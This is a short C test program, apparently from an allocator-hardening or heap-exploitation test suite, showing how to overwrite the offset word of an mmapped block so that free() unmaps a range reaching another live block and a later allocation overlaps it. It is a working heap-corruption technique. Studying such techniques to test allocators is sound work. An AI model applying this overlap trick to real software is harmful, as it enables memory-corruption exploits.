/* A mapped block's offset word (the 8 bytes before its header, which say
 * where its mapping starts) overwritten: free then unmaps, or keeps for
 * reuse, whatever range it describes. Here it is made to reach down to
 * the mapping of another live block, B; the next big block then comes
 * back at B's address: two live blocks in the same memory. */
#include "attack.h"

#include <malloc.h>

int main(void)
{
    under_mymalloc();
    mallopt(M_MMAP_THRESHOLD, 128 << 10);   /* fixed: it does not rise when a is freed */
    char *a = malloc(200000), *b = malloc(200000);
    if (b > a) {                       /* mmap usually goes down: b below a */
        char *t = a;
        a = b;
        b = t;
    }
    say(a);
    uintptr_t ca = (uintptr_t)a - 16, base_b = (uintptr_t)b - 16;
    uint64_t size_a = WORD(a, -8) & 0xfffffff0;   /* (the old layout: bytes) */
    WORD(a, -16) = ca - base_b;
    free(a);
    size_t n = (size_t)(ca - base_b + size_a) - 4096 - 16;
    char *c = malloc(n);
    if (c <= b && b < c + n)
        SUCCEEDED("the new block %p (%zu bytes) covers the live block %p", (void *)c, n, (void *)b);
    printf("no overlap: %p\n", (void *)c);
    return 0;
}
